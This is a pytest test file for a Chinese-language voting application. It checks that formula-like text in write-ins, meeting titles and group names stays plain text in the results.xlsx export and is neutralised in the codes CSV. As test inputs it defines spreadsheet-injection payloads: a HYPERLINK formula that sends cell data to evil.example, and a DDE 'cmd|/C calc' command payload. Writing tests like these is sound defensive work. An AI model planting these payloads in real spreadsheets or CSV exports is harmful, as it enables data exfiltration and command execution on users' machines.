"""Text that looks like a spreadsheet formula stays text: results.xlsx writes every text cell as a
string cell (no <f> element), and the codes CSV neutralises fields beginning with = + - @ tab CR
with a leading apostrophe (OWASP, CSV injection) and quotes every field."""

import csv
import io
import json
import re
import zipfile

from click.testing import CliRunner
from conftest import login
from test_web_admin import post
from voting import vote

from ballot.archive import build as archive
from ballot.archive import signing
from ballot.cli import main
from ballot.documents import workbook
from ballot.storage.models import Meeting

HYPERLINK = '=HYPERLINK("http://evil.example/x?"&A3,"查看详情")'
WRITE_INS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
# a write-in must be a name (the phone refuses the texts above), so the ballots write these names, each
# on enough ballots to be named publicly, and the signed files are then given the formula texts instead
WRITTEN = ["欧阳明", "上官婉", "司马光", "诸葛亮"]
TITLE = "=1+2 常委会"
GROUP = "@常委"


def _sheets_xml(xlsx: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        return {n: z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")}


def _cell_texts(xlsx: bytes) -> set:
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(xlsx))
    return {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


def _no_formula(xlsx: bytes) -> None:
    for name, xml in _sheets_xml(xlsx).items():
        assert "<f>" not in xml and "<f " not in xml, name


def _built(app, world, tmp_path) -> dict[str, bytes]:
    m = world.meeting(f'''
[meeting]
title = "{TITLE}"
[[groups]]
name = "{GROUP}"
expected = 5
[[items]]
title = "-推荐人选"
kind = "recommend"
seats = 4
candidates = ["张伟", "王芳"]
write_ins = true
''')
    item = m.items[0]
    world.present(m.groups[0].id, 5)
    codes = world.codes(m.groups[0].id, 5)
    world.open(item.id)
    for code in codes:
        phone = app.test_client()
        phone.get(f"/v/{code}")
        vote(phone, item.id, {f"w{i}": name for i, name in enumerate(WRITTEN)})
    world.close(item.id)
    signing.create_key(tmp_path / "inst")
    with world.db.read() as s:
        return archive.build(s, s.get(Meeting, m.id), signing.load_key(tmp_path / "inst"))


def test_write_ins_title_and_group_that_look_like_formulas_are_text_in_results_xlsx(app, world, tmp_path):
    files = _built(app, world, tmp_path)
    xlsx = files["results.xlsx"]
    _no_formula(xlsx)
    texts = _cell_texts(xlsx)
    assert {*WRITTEN, TITLE, "-推荐人选"} <= texts  # read back exactly, no apostrophe added
    # formula-like write-ins, tab and CR cannot come through the ballot form (names only), but the
    # workbook does not rely on that: any string handed to it is a string cell
    tally_text, ballots_text = files["tally.json"].decode(), files["ballots.json"].decode()
    for name, formula in zip(WRITTEN, WRITE_INS, strict=True):
        tally_text = tally_text.replace(name, json.dumps(formula, ensure_ascii=False)[1:-1])
        ballots_text = ballots_text.replace(name, json.dumps(formula, ensure_ascii=False)[1:-1])
    tally, ballots = json.loads(tally_text), json.loads(ballots_text)
    assert {*WRITE_INS} <= _cell_texts(workbook.build(tally, ballots))
    tally["meeting"]["title"] = "\t=1+1"
    tally["items"][0]["title"] = "\r=2+2"
    ballots["items"][0]["title"] = "#DIV/0!"
    xlsx = workbook.build(tally, ballots)
    _no_formula(xlsx)
    assert {"\t=1+1", "\r=2+2", "#DIV/0!"} <= _cell_texts(xlsx)
    for xml in _sheets_xml(xlsx).values():
        assert 't="e"' not in xml  # "#DIV/0!" is text, not an error cell


def _check_codes_csv(text: str, title: str, group: str) -> None:
    for line in text.splitlines():
        assert re.fullmatch(r'"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*', line), line  # every field quoted
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["序号", "票码", "投票链接", "会议", "表决组"]
    for row in rows[1:]:
        assert row[3] == "'" + title and row[4] == "'" + group
        assert not row[1].startswith("'") and row[2].startswith("http")


def test_codes_csv_from_the_admin_page_neutralises_formula_text(app, world):
    m = world.meeting(f'[meeting]\ntitle = """{HYPERLINK}"""\n[[groups]]\nname = "-1+1"\nexpected = 3\n')
    world.staff("clerk")
    client = app.test_client()
    login(client, "clerk1")
    url = f"/admin/meetings/{m.id}"
    r = post(client, f"/admin/groups/{m.groups[0].id}/codes", {"count": "2", "format": "csv"}, page_url=url)
    assert r.status_code == 200 and r.mimetype == "text/csv"
    _check_codes_csv(r.get_data().decode("utf-8-sig"), HYPERLINK, "-1+1")
    page = post(client, f"/admin/groups/{m.groups[0].id}/codes", {"count": "1", "format": "html"}, page_url=url)
    assert page.status_code == 200 and "%22%27%3DHYPERLINK" in page.get_data(as_text=True)  # the download link too


def test_codes_csv_from_the_command_line_neutralises_formula_text(world, settings, tmp_path, monkeypatch):
    m = world.meeting(f'[meeting]\ntitle = "+{TITLE}"\n[[groups]]\nname = "{GROUP}"\nexpected = 3\n')
    monkeypatch.setenv("BALLOT_DATABASE_URL", settings.database_url)
    monkeypatch.setenv("BALLOT_SECRET_KEY", "test-secret-" + "x" * 32)
    out = tmp_path / "codes.csv"
    args = ["codes", "issue", "--instance", str(settings.instance_path), str(m.id), "--count", "2", "--csv", str(out)]
    r = CliRunner().invoke(main, args)
    assert r.exit_code == 0, r.output
    _check_codes_csv(out.read_text(encoding="utf-8-sig"), "+" + TITLE, GROUP)
